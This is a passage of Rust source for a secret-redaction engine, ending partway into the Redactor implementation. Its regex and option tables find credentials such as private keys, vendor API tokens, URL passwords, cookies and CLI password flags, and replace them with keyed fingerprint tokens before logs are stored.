//! Secret redaction: credentials in command lines, paths, socket and DNS names and raw event
//! text are replaced by `[REDACTED:<rule>:<fingerprint>]` before anything is stored.
//!
//! Built-in rules are one table ([`BUILTINS`]) plus the password options of common tools
//! ([`PASSWORD_OPTIONS`], read both in a shell line and in an argv); user rules from
//! `[[redaction.rules]]` join them. Nearly every string we see is a file path holding no
//! secret, so a case-insensitive keyword scan decides which regexes run at all, and a string
//! without a keyword costs one pass and no allocation. Spans found by all rules are resolved to
//! non-overlapping ones (earliest start, then longest, then the more specific rule) and replaced
//! in one rebuild of the string.
//!
//! What is replaced is hidden, and the agent chooses the text: a rule replaces only what has
//! the shape of its secret. A PEM body is base64 lines and needs its END line (or the end of a
//! cut-off string); a quoted value ends at its quote, on the same line; an unquoted value is one
//! shell word and ends at whitespace, a quote or an operator (`;`, `|`, `(`, …); and each
//! replacement is bounded ([`Shape`]): a longer match is no secret and stays as it is. When
//! redaction replaced more than half of one string, and at least [`LARGE_SHARE_MIN`] bytes of
//! it, the record lists [`LARGE_SHARE`] among its rules, so that it can be found.
//!
//! Records restored from saved state are run through the engine again, so the output must be a
//! fixed point: rules only ever see the text between existing tokens (never inside or across
//! one), and the rule names in existing tokens are reported as hits. (The large-share mark is
//! not in the text, so a second run does not report it again.) The fingerprint is keyed, so
//! that equal secrets can be followed across events while a stored fingerprint cannot be
//! checked against a dictionary of likely passwords.

use std::fmt::Write as _;

use aho_corasick::AhoCorasick;
use hmac::{Hmac, Mac};
use regex::{Captures, Regex};
use serde::Deserialize;
use serde_json::Value;
use sha2::Sha256;

/// One user rule from the config file (`[[redaction.rules]]`).
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RuleSpec {
    pub name: String,
    pub pattern: String,
    #[serde(default)]
    pub keywords: Vec<String>,
}

/// The `[redaction]` section of the config file.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RedactConfig {
    #[serde(default)]
    pub rules: Vec<RuleSpec>,
    /// Regexes; a candidate secret that matches one of them (whole match) is left alone (false positives).
    #[serde(default)]
    pub allow: Vec<String>,
    /// Names of built-in rules to turn off.
    #[serde(default)]
    pub disable: Vec<String>,
}

/// A configuration the engine cannot be built from. Regex errors are kept as their one-line
/// reason rather than a `#[source]`: their `Display` is a multi-line diagram.
#[derive(Debug, thiserror::Error)]
pub enum RedactError {
    #[error("redaction rule `{name}` is not valid: {reason}")]
    InvalidRule { name: String, reason: String },
    #[error("redaction rule name `{name}` must be 1-40 characters of a-z, 0-9, _ and -")]
    BadName { name: String },
    #[error("redaction rule `{name}` is defined twice")]
    Duplicate { name: String },
    #[error("redaction rule name `{name}` is reserved for the mark of a large redacted share")]
    Reserved { name: String },
    #[error("redaction allow pattern `{pattern}` is not valid: {reason}")]
    InvalidAllow { pattern: String, reason: String },
    #[error("cannot disable redaction rule `{name}`: there is no built-in rule by that name")]
    UnknownDisable { name: String },
    #[error("cannot build the redaction keyword matcher")]
    Keywords {
        #[source]
        source: aho_corasick::BuildError,
    },
}

/// The rule names found in one record, sorted and deduplicated.
pub type Hits = std::collections::BTreeSet<String>;

/// Listed with a record's rules (it is no rule) when redaction replaced more than half of one of
/// its strings (an argument, a path, a name), and at least [`LARGE_SHARE_MIN`] bytes of it.
pub const LARGE_SHARE: &str = "large_share";
/// Below this many replaced bytes a string is not marked, however much of it was replaced: a
/// password or a short token alone in an argument is common and hides nothing else.
pub const LARGE_SHARE_MIN: usize = 64;

fn large_share(replaced: usize, len: usize) -> bool {
    replaced >= LARGE_SHARE_MIN && replaced * 2 > len
}

/// What one match may replace: a secret without whitespace (a word) of at most `word` bytes, one
/// with whitespace (a quoted phrase) of at most `phrase`. A longer match does not have the shape
/// of a secret, so it is left visible. With `values`, the match is a `name=value; name=value`
/// list and each value is replaced on its own, the names left visible.
#[derive(Debug, Clone, Copy)]
struct Shape {
    word: usize,
    phrase: usize,
    values: bool,
}

/// Values, vendor tokens and user rules.
const VALUE: Shape = Shape { word: 4096, phrase: 256, values: false };
/// A cookie list: each value a word.
const COOKIE_LIST: Shape = Shape { values: true, ..VALUE };
/// A PEM body: base64 lines (an 8192-bit RSA key is about 6.4 KiB).
const PEM_BODY: Shape = Shape { word: 16384, phrase: 16384, values: false };

impl Shape {
    fn fits(self, secret: &str) -> bool {
        secret.len() <= if secret.bytes().any(|b| b.is_ascii_whitespace()) { self.phrase } else { self.word }
    }
}

/// The values of a `name=value; name=value` list, as byte ranges.
fn pair_values(list: &str) -> impl Iterator<Item = (usize, usize)> + '_ {
    let mut pos = 0;
    list.split(';').filter_map(move |pair| {
        let start = pos;
        pos += pair.len() + 1;
        let eq = pair.find('=')?;
        let (x, y) = (start + eq + 1, start + pair.len());
        (x < y).then_some((x, y))
    })
}

/// Extra test on a built-in rule's match, for what a regex without look-around cannot say.
type Check = fn(&Captures<'_>) -> bool;

/// One built-in rule shape. Entries may share a name: one rule, several shapes.
struct Builtin {
    name: &'static str,
    /// Lowercase; the pattern runs only on strings containing one of them.
    keywords: &'static [&'static str],
    /// A group named `secret` is the part replaced; without one, the whole match.
    pattern: &'static str,
    /// Breaks ties between spans that start and end together: a vendor format is more
    /// telling than "the value of something named TOKEN".
    rank: u8,
    shape: Shape,
    check: Option<Check>,
}

/// Ranks, least specific first. `PREFIX` is for a format inside another's (`sk-ant-` in `sk-`).
const GENERIC: u8 = 0;
const CONTEXT: u8 = 1;
const VENDOR: u8 = 2;
const PREFIX: u8 = 3;

/// Words that make a variable or flag name secret-ish; [`is_secret_name`] decides precisely.
macro_rules! name_word {
    () => {
        "(?:pass|pwd|token|secret|api[_-]?key|access[_-]?key|private[_-]?key|credential|auth|bearer)"
    };
}
/// A quoted value, quotes included (they are kept, see [`Redactor::scan`]). With whitespace in
/// it, it needs its closing quote on the same line; a single word may be cut off at the end of
/// the text (a truncated argv).
macro_rules! quoted {
    () => {
        r#""[^"\s]+(?:"|\z)|"[^"\r\n]+"|'[^'\s]+(?:'|\z)|'[^'\r\n]+'"#
    };
}
/// A character of an unquoted value: one shell word, which ends at whitespace, a quote or an
/// operator, so that a command after it is never taken for the secret.
macro_rules! word {
    () => {
        r#"[^\s'"`;&|<>()]"#
    };
}
/// The same, and not `-`: after a space, a value starting `-` is the next option.
macro_rules! word_not_dash {
    () => {
        r#"[^\s'"`;&|<>()-]"#
    };
}
macro_rules! value {
    () => {
        concat!("(?P<secret>", quoted!(), "|", word!(), "+)")
    };
}
/// A value after a space: `--x` is the next option, and `-` alone means stdin.
macro_rules! spaced_value {
    () => {
        concat!("(?P<secret>", quoted!(), "|-?", word_not_dash!(), word!(), "*)")
    };
}
/// An assigned value; `==` is a comparison.
macro_rules! assigned_value {
    () => {
        concat!("(?P<secret>", quoted!(), r#"|[^\s'"`;&|<>()=]"#, word!(), "*)")
    };
}
/// `name=value` pairs of a cookie list, `;` between them; a value has no shell operator.
macro_rules! cookies {
    () => {
        r#"[^\s;=,'"`|&<>()]+=[^\s;,'"`|&<>()]*(?:;[ \t]?[^\s;=,'"`|&<>()]+=[^\s;,'"`|&<>()]*)*"#
    };
}
macro_rules! pem_label {
    () => {
        r"[A-Z0-9 ]{0,40}PRIVATE KEY(?: BLOCK)?-----"
    };
}
/// Between base64 lines: line breaks, real or written `\n` (`\\n` once escaped), and indentation.
macro_rules! pem_sep {
    () => {
        r"(?:[ \t\r\n]|\\{1,2}[rn]){1,16}"
    };
}
/// Encryption (RFC 1421) and armour headers, left visible.
macro_rules! pem_headers {
    () => {
        concat!("(?:", pem_sep!(), r"(?:Proc-Type|DEK-Info|Version|Comment|Hash|Charset):[^\r\n\\]*)*")
    };
}
/// Base64 lines: the first and every other but the last at least 40 characters long (real keys
/// have 64 or 70), so that no command line fits in between.
macro_rules! pem_body {
    () => {
        concat!(
            "(?:",
            pem_sep!(),
            ")?[A-Za-z0-9+/=]{40,}(?:",
            pem_sep!(),
            "[A-Za-z0-9+/=]{40,})*(?:",
            pem_sep!(),
            "[A-Za-z0-9+/=]+)?"
        )
    };
}
const NAME_KEYWORDS: &[&str] = &[
    "pass",
    "pwd",
    "token",
    "secret",
    "api_key",
    "api-key",
    "apikey",
    "access_key",
    "access-key",
    "accesskey",
    "private_key",
    "private-key",
    "privatekey",
    "credential",
    "auth",
    "bearer",
];

// `(?-u:\b)` rather than `\b`: the lazy DFA cannot do Unicode word boundaries on non-ASCII text.
// Every repetition is of a class that excludes what would end the secret, and the rule's
// `shape` bounds what one match may replace.
const BUILTINS: &[Builtin] = &[
    Builtin {
        name: "private_key",
        keywords: &["-----begin"],
        rank: PREFIX,
        shape: PEM_BODY,
        check: None,
        pattern: concat!(
            "-----BEGIN",
            pem_label!(),
            pem_headers!(),
            "(?P<secret>",
            pem_body!(),
            "(?:",
            pem_sep!(),
            "=[A-Za-z0-9+/]{4})?(?:",
            pem_sep!(),
            ")?)-----END",
            pem_label!()
        ),
    },
    // A key cut off by a truncated argv: the body to the end, with what came of its END line.
    Builtin {
        name: "private_key",
        keywords: &["-----begin"],
        rank: PREFIX,
        shape: PEM_BODY,
        check: None,
        pattern: concat!(
            "-----BEGIN",
            pem_label!(),
            pem_headers!(),
            "(?P<secret>",
            pem_body!(),
            ")(?:",
            pem_sep!(),
            r")?(?:-{1,5}[A-Z ]{0,40})?\z"
        ),
    },
    Builtin {
        name: "aws_access_key",
        keywords: &["akia", "asia", "agpa", "aida", "aroa", "anpa", "anva", "aipa"],
        rank: VENDOR,
        shape: VALUE,
        check: None,
        pattern: r"(?-u:\b)(?:AKIA|ASIA|AGPA|AIDA|AROA|ANPA|ANVA|AIPA)[A-Z0-9]{16}(?-u:\b)",
    },
    Builtin {
        name: "github_token",
        keywords: &["ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_"],
        rank: VENDOR,
        shape: VALUE,
        check: None,
        pattern: r"(?-u:\b)(?:gh[pousr]_[A-Za-z0-9]{36,}|github_pat_[A-Za-z0-9_]{22,})",
    },
    Builtin {
        name: "gitlab_token",
        keywords: &["glpat-", "gldt-", "glrt-", "glptt-"],
        rank: VENDOR,
        shape: VALUE,
        check: None,
        pattern: r"(?-u:\b)gl(?:pat|dt|rt|ptt)-[A-Za-z0-9_-]{20,}",
    },
    Builtin {
        name: "slack_token",
        keywords: &["xox"],
        rank: VENDOR,
        shape: VALUE,
        check: None,
        pattern: r"(?-u:\b)xox[abposr]-[A-Za-z0-9-]{10,}",
    },
    Builtin {
        name: "slack_token",
        keywords: &["hooks.slack.com"],
        rank: VENDOR,
        shape: VALUE,
        check: None,
        pattern: r"hooks\.slack\.com/services/(?P<secret>[A-Za-z0-9_/-]{20,})",
    },
    Builtin {
        name: "anthropic_api_key",
        keywords: &["sk-ant-"],
        rank: PREFIX,
        shape: VALUE,
        check: None,
        pattern: r"(?-u:\b)sk-ant-[A-Za-z0-9_-]{20,}",
    },
    Builtin {
        name: "openai_api_key",
        keywords: &["sk-"],
        rank: VENDOR,
        shape: VALUE,
        check: Some(not_slug),
        pattern: r"(?-u:\b)sk-[A-Za-z0-9_-]{20,}",
    },
    Builtin {
        name: "google_api_key",
        keywords: &["aiza"],
        rank: VENDOR,
        shape: VALUE,
        check: None,
        pattern: r"(?-u:\b)AIza[A-Za-z0-9_-]{35}",
    },
    Builtin {
        name: "stripe_key",
        keywords: &["sk_live_", "sk_test_", "rk_live_", "rk_test_"],
        rank: VENDOR,
        shape: VALUE,
        check: None,
        pattern: r"(?-u:\b)[rs]k_(?:live|test)_[A-Za-z0-9]{16,}",
    },
    Builtin {
        name: "jwt",
        keywords: &["eyj"],
        rank: VENDOR,
        shape: VALUE,
        check: None,
        pattern: r"(?-u:\b)eyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{4,}\.[A-Za-z0-9_-]*",
    },
    // The password runs to the last `@` before the host, so an unescaped `@` in it is covered.
    Builtin {
        name: "url_password",
        keywords: &["://"],
        rank: CONTEXT,
        shape: VALUE,
        check: None,
        pattern: r#"(?i-u:\b[a-z][a-z0-9+.-]*://)[^\s:/?#@'"]*:(?P<secret>[^\s/?#'"]+)@"#,
    },
    // A token as the whole user part (`https://<token>@host`, `https://<token>:x-oauth-basic@…`).
    Builtin {
        name: "url_token",
        keywords: &["://"],
        rank: CONTEXT,
        shape: VALUE,
        check: Some(token_like),
        pattern: r#"(?i-u:\b[a-z][a-z0-9+.-]*://(?P<secret>[a-z0-9_~-]{20,}))(?::[^\s/?#'"]*)?@"#,
    },
    Builtin {
        name: "authorization",
        keywords: &["authorization"],
        rank: CONTEXT,
        shape: VALUE,
        check: Some(not_scheme),
        pattern: concat!(
            r#"(?i-u:authorization["']?[ \t]*[:=][ \t]*["']?(?:[a-z][a-z0-9_-]*[ \t]+)?)(?P<secret>"#,
            word!(),
            "+)"
        ),
    },
    Builtin {
        name: "authorization",
        keywords: &["bearer"],
        rank: CONTEXT,
        shape: VALUE,
        check: Some(not_word),
        pattern: concat!(r"(?i-u:\bbearer[ \t]+)(?P<secret>", word!(), "{8,})"),
    },
    Builtin {
        name: "cookie",
        keywords: &["cookie"],
        rank: CONTEXT,
        shape: COOKIE_LIST,
        check: None,
        pattern: concat!(r#"(?i-u:\b(?:set-)?cookie["']?[ \t]*:[ \t]*["']?)(?P<secret>"#, cookies!(), ")"),
    },
    Builtin {
        name: "password_flag",
        keywords: NAME_KEYWORDS,
        rank: CONTEXT,
        shape: VALUE,
        check: Some(secret_name),
        pattern: concat!(r"(?i)--(?P<name>(?-u:[a-z0-9_-]*", name_word!(), r"[a-z0-9_-]*))=", value!()),
    },
    Builtin {
        name: "password_flag",
        keywords: NAME_KEYWORDS,
        rank: CONTEXT,
        shape: VALUE,
        check: Some(secret_name),
        pattern: concat!(r"(?i)--(?P<name>(?-u:[a-z0-9_-]*", name_word!(), r"[a-z0-9_-]*))[ \t]+", spaced_value!()),
    },
    // Case-sensitive: `-P3306` is a port. A bare `-p` prompts and has no value to find.
    Builtin {
        name: "mysql_password",
        keywords: &["mysql", "mariadb"],
        rank: CONTEXT,
        shape: VALUE,
        check: None,
        pattern: concat!(
            r"(?-u:\b)(?:mysql|mysqldump|mysqladmin|mysqlsh|mariadb|mariadb-dump)(?-u:\b)[^\n;&|]*?[ \t]-p",
            value!()
        ),
    },
    Builtin {
        name: "sshpass",
        keywords: &["sshpass"],
        rank: CONTEXT,
        shape: VALUE,
        check: None,
        pattern: concat!(r"(?-u:\b)sshpass(?:[ \t]+-[fdP][ \t]*\S+|[ \t]+-[evhV]+)*[ \t]+-p[ \t]*", value!()),
    },
    // `aws configure set aws_secret_access_key V`, `git config x.token V`,
    // `npm config set //host/:_authToken V`: the value set for a name that names a secret.
    Builtin {
        name: "config_value",
        keywords: NAME_KEYWORDS,
        rank: CONTEXT,
        shape: VALUE,
        check: Some(secret_name),
        pattern: concat!(
            r"(?-u:\b)config(?:ure)?(?:[ \t]+(?:set|--?[A-Za-z][A-Za-z0-9-]*)){0,4}[ \t]+",
            r"(?P<name>[A-Za-z0-9_./:@-]+)[ \t]+",
            spaced_value!()
        ),
    },
    // `NAME=value` (shell, URL query, `dict(password=…)`), `name = "value"` (TOML, INI),
    // `name => value`, `name := value`. `TOKEN= cmd` sets nothing and runs `cmd`.
    Builtin {
        name: "secret_assignment",
        keywords: NAME_KEYWORDS,
        rank: GENERIC,
        shape: VALUE,
        check: Some(secret_name),
        pattern: concat!(
            r"(?i)(?-u:\b)(?P<name>(?-u:[a-z0-9_]*",
            name_word!(),
            r"[a-z0-9_]*))(?:=|[ \t]*(?:=>|:=)[ \t]*|[ \t]+=[ \t]*)",
            assigned_value!()
        ),
    },
    // `"password": "x"` (JSON), `{'password': 'x'}` (a Python dict).
    Builtin {
        name: "secret_assignment",
        keywords: NAME_KEYWORDS,
        rank: GENERIC,
        shape: VALUE,
        check: Some(secret_name_value),
        pattern: concat!(
            r#"(?i)["'](?P<name>(?-u:[a-z0-9_.-]*"#,
            name_word!(),
            r#"[a-z0-9_.-]*))["'][ \t]*:[ \t]*"#,
            value!()
        ),
    },
    // `password: x` (YAML), `X-Api-Key: x` (a header).
    Builtin {
        name: "secret_assignment",
        keywords: NAME_KEYWORDS,
        rank: GENERIC,
        shape: VALUE,
        check: Some(secret_name_value),
        pattern: concat!(
            r"(?i)(?-u:\b)(?P<name>(?-u:[a-z0-9_.-]*",
            name_word!(),
            r"[a-z0-9_.-]*))[ \t]*:[ \t]+",
            value!()
        ),
    },
    // `X-Api-Key:x`: a header without the space (only `X-` names; `my-token:latest` is an image).
    Builtin {
        name: "secret_assignment",
        keywords: NAME_KEYWORDS,
        rank: GENERIC,
        shape: VALUE,
        check: Some(secret_name_value),
        pattern: concat!(r"(?i)(?-u:\b)(?P<name>(?-u:x-[a-z0-9-]+))[ \t]*:", value!()),
    },
    // A signed URL's signature (Azure SAS `sig=`, S3 and GCS `X-Amz-Signature=`…) grants access.
    Builtin {
        name: "secret_assignment",
        keywords: &["sig"],
        rank: GENERIC,
        shape: VALUE,
        check: None,
        pattern: concat!(
            r"(?i-u:[?&](?:sig|signature|x-amz-signature|x-goog-signature)=)(?P<secret>[^&#",
            r#"\s'"`;|<>()]+)"#
        ),
    },
];

/// How the secret sits in an option's argument.
#[derive(Debug, Clone, Copy)]
enum OptionArg {
    /// The whole argument.
    Whole,
    /// After this prefix (`pass:` of openssl); the other forms (`env:`, `file:`) say where it is.
    Prefix(&'static str),
    /// After the first such character: `user:password`, `user%password`.
    After(char),
    /// A cookie list (`a=1; b=2`); without a `=` the argument is a file.
    Cookies,
}

/// An option of a common tool that takes a secret. Each is read in an argv (the next argument,
/// or attached to a short option) and in the text of a shell line, with a pattern made from it.
struct PasswordOption {
    rule: &'static str,
    /// Program names (the file name of the argv element).
    programs: &'static [&'static str],
    /// A word that comes between the program and the option (`docker login -p`).
    after: Option<&'static str>,
    flags: &'static [&'static str],
    /// Lowercase; as [`Builtin::keywords`], for the shell-line pattern.
    keywords: &'static [&'static str],
    /// The value may be the next argument (`-p X`).
    separate: bool,
    /// A two-character option may carry its value (`-pX`).
    attached: bool,
    arg: OptionArg,
    shape: Shape,
}

const PASSWORD_OPTIONS: &[PasswordOption] = &[
    PasswordOption {
        rule: "password_option",
        programs: &["curl"],
        after: None,
        flags: &["-u", "--user", "-U", "--proxy-user"],
        keywords: &["curl"],
        separate: true,
        attached: true,
        arg: OptionArg::After(':'),
        shape: VALUE,
    },
    PasswordOption {
        rule: "cookie",
        programs: &["curl"],
        after: None,
        flags: &["-b", "--cookie"],
        keywords: &["curl"],
        separate: true,
        attached: true,
        arg: OptionArg::Cookies,
        shape: COOKIE_LIST,
    },
    // Registry and cloud logins (`-p` of `docker run` is a port).
    PasswordOption {
        rule: "password_option",
        programs: &["docker", "podman", "buildah", "skopeo", "nerdctl", "oras", "helm", "crane", "oc", "cf", "az"],
        after: Some("login"),
        flags: &["-p"],
        keywords: &["login"],
        separate: true,
        attached: true,
        arg: OptionArg::Whole,
        shape: VALUE,
    },
    PasswordOption {
        rule: "password_option",
        programs: &[
            "mongo",
            "mongosh",
            "mongodump",
            "mongorestore",
            "mongoexport",
            "mongoimport",
            "mongostat",
            "mongotop",
        ],
        after: None,
        flags: &["-p"],
        keywords: &["mongo"],
        separate: true,
        attached: false,
        arg: OptionArg::Whole,
        shape: VALUE,
    },
    PasswordOption {
        rule: "password_option",
        programs: &["redis-cli"],
        after: None,
        flags: &["-a"],
        keywords: &["redis-cli"],
        separate: true,
        attached: false,
        arg: OptionArg::Whole,
        shape: VALUE,
    },
    PasswordOption {
        rule: "password_option",
        programs: &[
            "ldapsearch",
            "ldapadd",
            "ldapmodify",
            "ldapdelete",
            "ldapmodrdn",
            "ldappasswd",
            "ldapwhoami",
            "ldapcompare",
            "ldapexop",
        ],
        after: None,
        flags: &["-w"],
        keywords: &["ldap"],
        separate: true,
        attached: true,
        arg: OptionArg::Whole,
        shape: VALUE,
    },
    PasswordOption {
        rule: "password_option",
        programs: &["sqlcmd", "bcp"],
        after: None,
        flags: &["-P"],
        keywords: &["sqlcmd", "bcp"],
        separate: true,
        attached: true,
        arg: OptionArg::Whole,
        shape: VALUE,
    },
    PasswordOption {
        rule: "password_option",
        programs: &["zip", "unzip"],
        after: None,
        flags: &["-P"],
        keywords: &["zip"],
        separate: true,
        attached: false,
        arg: OptionArg::Whole,
        shape: VALUE,
    },
    // `-p` alone asks; only `-pX` carries it.
    PasswordOption {
        rule: "password_option",
        programs: &["7z", "7za", "7zr"],
        after: None,
        flags: &["-p"],
        keywords: &["7z"],
        separate: false,
        attached: true,
        arg: OptionArg::Whole,
        shape: VALUE,
    },
    PasswordOption {
        rule: "password_option",
        programs: &["ssh-keygen"],
        after: None,
        flags: &["-N", "-P"],
        keywords: &["ssh-keygen"],
        separate: true,
        attached: true,
        arg: OptionArg::Whole,
        shape: VALUE,
    },
    PasswordOption {
        rule: "password_option",
        programs: &["keytool", "jarsigner"],
        after: None,
        flags: &["-storepass", "-keypass", "-srcstorepass", "-deststorepass", "-srckeypass", "-destkeypass"],
        keywords: &["pass"],
        separate: true,
        attached: false,
        arg: OptionArg::Whole,
        shape: VALUE,
    },
    PasswordOption {
        rule: "password_option",
        programs: &["openssl"],
        after: None,
        flags: &["-pass", "-passin", "-passout"],
        keywords: &["pass:"],
        separate: true,
        attached: false,
        arg: OptionArg::Prefix("pass:"),
        shape: VALUE,
    },
    PasswordOption {
        rule: "password_option",
        programs: &["smbclient", "rpcclient", "smbcacls", "smbget", "smbmap"],
        after: None,
        flags: &["-U", "--user"],
        keywords: &["smb", "rpcclient"],
        separate: true,
        attached: true,
        arg: OptionArg::After('%'),
        shape: VALUE,
    },
    PasswordOption {
        rule: "password_option",
        programs: &["gh"],
        after: Some("secret"),
        flags: &["-b", "--body"],
        keywords: &["secret"],
        separate: true,
        attached: true,
        arg: OptionArg::Whole,
        shape: VALUE,
    },
];

/// The shell-line patterns of an option: the program, then (on the same command) the option and
/// its value.
fn option_patterns(o: &PasswordOption) -> Vec<String> {
    let any = |words: &[&str]| words.iter().map(|w| regex::escape(w)).collect::<Vec<_>>().join("|");
    let mut head = format!(r"(?-u:\b)(?:{})(?-u:\b)", any(o.programs));
    if let Some(word) = o.after {
        let _ = write!(head, r"[^\n;&|]*?[ \t]{}(?-u:\b)", regex::escape(word));
    }
    let flags = o.flags.iter().map(|f| {
        let e = regex::escape(f);
        match (f.starts_with("--"), f.len() == 2, o.separate, o.attached) {
            (true, ..) => format!(r"{e}(?:[ \t]+|=)"),
            (false, true, true, true) => format!(r"{e}(?:[ \t]+|=)?"),
            (false, true, false, true) => e,
            _ => format!(r"{e}[ \t]+"),
        }
    });
    let _ = write!(head, r"[^\n;&|]*?[ \t](?:{})", flags.collect::<Vec<_>>().join("|"));
    match o.arg {
        OptionArg::Whole => vec![format!("{head}{}", spaced_value!())],
        OptionArg::Prefix(p) => {
            let p = regex::escape(p);
            vec![format!(r#"{head}["']{p}(?P<secret>[^'"\r\n]+)["']"#), format!("{head}{p}(?P<secret>{}+)", word!())]
        }
        OptionArg::After(c) => {
            let c = regex::escape(&c.to_string());
            vec![
                format!(r#"{head}["'][^\s'"{c}]*{c}(?P<secret>[^'"\r\n]+)["']"#),
                format!(r#"{head}[^\s'"{c}]*{c}(?P<secret>{}+)"#, word!()),
            ]
        }
        OptionArg::Cookies => vec![format!(r#"{head}["']?(?P<secret>{})"#, cookies!())],
    }
}

const MYSQL_PROGRAMS: &[&str] = &["mysql", "mysqldump", "mysqladmin", "mariadb", "mariadb-dump", "mysqlsh"];
const TOKEN_OPEN: &str = "[REDACTED:";
/// `:` + 12 hex digits + `]`.
const TOKEN_TAIL: usize = 14;
/// Keyword pattern 0 finds earlier tokens; it switches no rule on.
const MARKER: usize = 0;

/// Whether a variable or flag name says its value is a credential. Whole parts matter for the
/// short words: `DB_PASS` and `GITHUB_TOKEN` are secrets, `BYPASS_CACHE`, `MAX_TOKENS`,
/// `GIT_AUTHOR_NAME` and the shell's `PWD` are not; a `_FILE`/`-path`… suffix names where the
/// secret lives, not the secret (and `credential.helper` the program that keeps it), and
/// `--no-password`/`--ask-pass` are switches without a value.
fn is_secret_name(name: &str) -> bool {
    const ANYWHERE: &[&str] = &[
        "password",
        "passwd",
        "passphrase",
        "secret",
        "apikey",
        "api_key",
        "api-key",
        "accesskey",
        "access_key",
        "access-key",
        "privatekey",
        "private_key",
        "private-key",
        "credential",
        "bearer",
    ];
    const NOT_THE_VALUE: &[&str] = &["file", "path", "dir", "env", "stdin", "fd", "cmd", "command", "url", "helper"];
    let mut parts = name.split(['_', '-', '.']).filter(|p| !p.is_empty());
    let first = parts.clone().next().is_some_and(|f| f.eq_ignore_ascii_case("no") || f.eq_ignore_ascii_case("ask"));
    if first || parts.clone().next_back().is_some_and(|l| NOT_THE_VALUE.iter().any(|n| l.eq_ignore_ascii_case(n))) {
        return false;
    }
    let contains = |word: &str| name.as_bytes().windows(word.len()).any(|w| w.eq_ignore_ascii_case(word.as_bytes()));
    ANYWHERE.iter().any(|w| contains(w))
        || parts.any(|p| {
            p.eq_ignore_ascii_case("pass")
                || p.eq_ignore_ascii_case("auth")
                || (p.eq_ignore_ascii_case("pwd") && p.len() < name.len())
                || p.len() >= 5 && p.as_bytes()[p.len() - 5..].eq_ignore_ascii_case(b"token")
        })
}

fn secret_name(c: &Captures<'_>) -> bool {
    c.name("name").is_some_and(|n| is_secret_name(n.as_str()))
}

/// `auth: true`, `"password": null`: a key's literal, not a secret.
fn secret_name_value(c: &Captures<'_>) -> bool {
    const LITERALS: &[&str] = &["true", "false", "null", "none", "nil", "yes", "no", "~"];
    secret_name(c) && c.name("secret").is_some_and(|s| !LITERALS.iter().any(|l| s.as_str().eq_ignore_ascii_case(l)))
}

/// `sk-learn-tutorial-examples` is a file name, not a key: real keys are mixed-case random text.
fn not_slug(c: &Captures<'_>) -> bool {
    let body = &c[0][3..];
    let body = ["proj-", "svcacct-", "admin-"].iter().find_map(|p| body.strip_prefix(p)).unwrap_or(body);
    !is_slug(body)
}

/// Lowercase words and numbers joined by `-` or `_`: a name someone chose, not random text.
fn is_slug(s: &str) -> bool {
    s.contains(['-', '_']) && s.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-' || b == b'_')
}

/// A URL's user part that is a token: letters and digits mixed, not a slug (`deploy-bot-2024`).
fn token_like(c: &Captures<'_>) -> bool {
    c.name("secret").is_some_and(|s| {
        let s = s.as_str();
        s.bytes().any(|b| b.is_ascii_digit()) && s.bytes().any(|b| b.is_ascii_alphabetic()) && !is_slug(s)
    })
}

/// `Authorization: Bearer` with nothing after it has no credential, only its scheme.
fn not_scheme(c: &Captures<'_>) -> bool {
    let schemes = ["bearer", "basic", "token", "digest", "negotiate"];
    c.name("secret").is_some_and(|s| !schemes.iter().any(|w| s.as_str().eq_ignore_ascii_case(w)))
}

/// Prose ("bearer authentication") is short letters only; a token has digits or punctuation or length.
fn not_word(c: &Captures<'_>) -> bool {
    c.name("secret").is_some_and(|s| s.len() >= 20 || !s.as_str().bytes().all(|b| b.is_ascii_alphabetic()))
}

fn is_secret_flag(arg: &str) -> bool {
    arg.strip_prefix("--").is_some_and(|n| {
        !n.is_empty() && n.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_') && is_secret_name(n)
    })
}

/// The name in `config [set] [--flags] NAME VALUE`, as the shell-line pattern reads it.
fn is_config_name(name: &str) -> bool {
    !name.is_empty()
        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b"_./:@-".contains(&b))
        && is_secret_name(name)
}

/// A value in the next argument: not the next option, and not `-` (stdin).
fn is_value(arg: &str) -> bool {
    arg != "-" && !arg.starts_with("--")
}

/// The first line of a regex error that says what is wrong.
fn reason(e: &regex::Error) -> String {
    let text = e.to_string();
    let line = text.lines().find_map(|l| l.strip_prefix("error: ")).or_else(|| text.lines().next());
    line.unwrap_or_default().to_owned()
}

fn compile(name: &str, pattern: &str) -> Result<Regex, RedactError> {
    Regex::new(pattern).map_err(|e| RedactError::InvalidRule { name: name.to_owned(), reason: reason(&e) })
}

fn add_hit(hits: &mut Hits, name: &str) {
    if !hits.contains(name) {
        hits.insert(name.to_owned());
    }
}

struct Rule {
    name: String,
    regex: Regex,
    secret: Option<usize>,
    check: Option<Check>,
    rank: u8,
    shape: Shape,
    /// The pattern needs a space or tab (an option after its program): a path has none, even
    /// when it holds a keyword (`libcurl.so`, `/etc/login.defs`).
    spaced: bool,
}

/// A span of the string to replace, found by `rule`.
struct Span {
    start: usize,
    end: usize,
    rule: usize,
}

/// Which of the argv rules (a secret in an argument after its option or name) are on.
#[expect(clippy::struct_excessive_bools, reason = "one switch per rule, read as such in the argv loop")]
struct ArgvRules {
    password_flag: bool,
    mysql: bool,
    sshpass: bool,
    config_value: bool,
    /// The [`PASSWORD_OPTIONS`] whose rule is on.
    options: Vec<&'static PasswordOption>,
}

/// The names of the built-in rules, in table order.
fn builtin_names() -> impl Iterator<Item = &'static str> {
    BUILTINS.iter().map(|b| b.name).chain(PASSWORD_OPTIONS.iter().map(|o| o.rule))
}

/// The compiled rules and the fingerprint key; built once at start-up, shared by reference.
pub struct Redactor {
    mac: Hmac<Sha256>,
    rules: Vec<Rule>,
    keywords: AhoCorasick,
    /// For each keyword pattern, the rules it switches on.
    keyword_rules: Vec<Vec<usize>>,
    /// Rules without keywords: they run on every string.
    always: Vec<usize>,
    token: Regex,
    allow: Vec<Regex>,
    names: Vec<String>,
    argv_rules: ArgvRules,
}

impl std::fmt::Debug for Redactor {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Redactor").field("rules", &self.names).finish_non_exhaustive()
    }
}

impl Redactor {
